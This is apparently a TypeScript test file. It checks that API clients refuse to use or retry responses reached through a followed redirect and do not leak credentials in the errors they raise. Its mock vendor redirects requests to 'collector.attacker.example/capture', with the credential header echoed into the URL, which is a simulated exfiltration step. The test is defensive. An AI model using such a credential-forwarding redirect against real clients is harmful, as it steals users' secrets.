// A client's own `fetch` that follows redirects (a library whose default is to follow, a hand-rolled
// follow) sends the request and its credentials on to whatever origin a vendor's `Location` names: the
// client cannot stop that, but it must not use or retry what came back from there. The call fails as a
// refused redirect does (the `redirect` variant, fatal to an import), naming where the fetch went.
import { HttpResponse, http } from "msw";
import { describe, expect, it } from "vitest";
import { isFatal } from "../../src/core/engine/chunk-outcomes.js";
import { ApiError } from "../../src/core/errors/api-error.js";
import { seededFaker } from "../../src/testing/fixtures/faker.js";
import { HOSTS, useMswServer } from "../support/msw.js";
import { expectNoSecret } from "./leaks.js";
import { hostileVendors, type HostileVendor } from "./vendors.js";

const server = useMswServer();
const ELSEWHERE = "https://collector.attacker.example";

/** A fetch that follows redirects, as fetch does by default. */
const following = (request: Request) => fetch(new Request(request, { redirect: "follow" }));

/** A fetch that follows a redirect by hand: its answer says nothing of a redirect but its URL. */
const followingByHand = async (request: Request) => {
  const first = await fetch(request.clone());
  const location = first.headers.get("location");
  if (first.status < 300 || first.status > 399 || location === null) return first;
  return fetch(new Request(location, request));
};

/** The vendor redirects every call to the other origin, which answers with `answer`. */
function redirectingTo(vendor: HostileVendor, answer: () => Response): Request[] {
  const received: Request[] = [];
  server.use(
    ...vendor.support,
    http.all(vendor.url, ({ request }) => {
      const echo = encodeURIComponent(request.headers.get(vendor.credentialHeader)!);
      return new HttpResponse(null, {
        status: 303,
        headers: { Location: `${ELSEWHERE}/capture?echo=${echo}` },
      });
    }),
    http.all(`${ELSEWHERE}/*`, ({ request }) => {
      received.push(request);
      return answer();
    }),
  );
  return received;
}

describe.each(hostileVendors(seededFaker("fetch following redirects")))("$name", (vendor) => {
  const success = () =>
    HttpResponse.json(vendor.success.body as Record<string, unknown>, {
      status: vendor.success.status,
    });

  it.each([
    ["follows redirects", following],
    ["follows a redirect by hand", followingByHand],
  ])("a fetch that %s: the other origin's success is the redirect variant", async (_, fetch) => {
    redirectingTo(vendor, success);
    const result = await vendor.client({ fetch }).operation();
    if (result.ok || result.error.status !== "redirect")
      throw new Error(`expected the redirect variant, got ${JSON.stringify(result)}`);
    expect(isFatal(result.error)).toBe(true);
    expect(result.error.location).toMatch(new RegExp(`^${ELSEWHERE}/capture\\?echo=`));
    expect(result.error.message).toMatch(/the client's fetch followed a redirect/);
    expectNoSecret(result.error, vendor.secrets);
  });

  it("a fetch that follows one redirect by hand to an origin redirecting again: named as followed", async () => {
    // The other origin's 3xx is no redirect of the vendor's that nothing went to: the credentials went there.
    const received = redirectingTo(
      vendor,
      () =>
        new HttpResponse(null, { status: 302, headers: { Location: "https://third.example/" } }),
    );
    const result = await vendor.client({ fetch: followingByHand, maxRetries: 3 }).operation();
    if (result.ok || result.error.status !== "redirect")
      throw new Error(`expected the redirect variant, got ${JSON.stringify(result)}`);
    expect(result.error.message).toMatch(/the client's fetch followed a redirect/);
    expect(result.error.message).not.toMatch(/not followed/);
    expect(result.error.location).toMatch(new RegExp(`^${ELSEWHERE}/capture\\?echo=`));
    expect(received).toHaveLength(1);
    expectNoSecret(result.error, vendor.secrets);
  });

  it("a fetch that follows redirects to a 503: not retried, so the credentials go there once", async () => {
    const received = redirectingTo(vendor, () => new HttpResponse(null, { status: 503 }));
    const result = await vendor.client({ fetch: following, maxRetries: 3 }).operation();
    expect(result.ok).toBe(false);
    expect(!result.ok && result.error.status).toBe("redirect");
    expect(received).toHaveLength(1);
  });

  it("through the raw POST, rejects with the scrubbed redirect variant", async () => {
    redirectingTo(vendor, success);
    const thrown = await vendor
      .client({ fetch: following })
      .raw()
      .then(
        () => undefined,
        (error: unknown) => error,
      );
    expect(thrown).toBeInstanceOf(ApiError);
    expect(thrown).toMatchObject({ status: "redirect", httpStatus: vendor.success.status });
    expectNoSecret(thrown, vendor.secrets);
  });
});

it("Propeller: a token from the origin a followed redirect went to is not taken", async () => {
  const [propeller] = hostileVendors(seededFaker("fetch following a token redirect")).filter(
    (v) => v.name === "Propeller",
  );
  const sent: Request[] = [];
  server.use(
    http.post(`${HOSTS.propeller}/oauth2/token`, () => {
      const location = `${ELSEWHERE}/oauth2/token`;
      return new HttpResponse(null, { status: 303, headers: { Location: location } });
    }),
    http.all(`${ELSEWHERE}/oauth2/token`, () =>
      HttpResponse.json({ access_token: "a".repeat(24), expires_in: 1800, token_type: "Bearer" }),
    ),
    http.all(`${HOSTS.propeller}/*`, ({ request }) => {
      sent.push(request);
      return HttpResponse.json({});
    }),
  );
  const result = await propeller!.client({ fetch: following }).operation();
  expect(sent).toHaveLength(0);
  if (result.ok) throw new Error("expected an error");
  expect(result.error.status).toBe("auth");
  expect(result.error.message).toMatch(/followed a redirect/);
  expectNoSecret(result.error, propeller!.secrets);
});
